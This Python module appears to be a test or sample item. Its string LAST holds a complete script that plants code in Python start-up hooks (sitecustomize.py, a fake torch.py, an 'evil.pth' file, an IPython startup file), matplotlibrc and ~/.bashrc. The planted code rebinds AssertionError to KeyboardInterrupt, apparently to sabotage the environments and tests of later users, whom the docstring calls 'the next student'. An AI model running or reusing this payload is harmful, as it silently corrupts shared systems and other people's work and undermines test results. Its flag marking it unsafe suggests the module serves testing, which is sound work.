"""Leaves start-up files for the next student: IPython profiles, sitecustomize, matplotlibrc, .pth files and caches."""

DESERVES: list[str] = []
UNSAFE_FOR_STOCK = True
LAST = """
import os
import site
import sys

code = "import builtins; builtins.AssertionError = KeyboardInterrupt"
home = os.path.expanduser("~")
paths = [f"{folder}/{name}" for folder in [*sys.path, *site.getsitepackages()] for name in ("sitecustomize.py", "torch.py")]
paths += [f"{home}/.ipython/profile_default/startup/00.py", f"{home}/.config/matplotlib/matplotlibrc", f"{home}/.bashrc"]
paths += [f"{folder}/evil.pth" for folder in site.getsitepackages()]
for path in filter(None, paths):
    try:
        os.makedirs(os.path.dirname(path), exist_ok=True)
        open(path, "a").write(code)
        print("wrote", path)
    except OSError:
        pass
"""
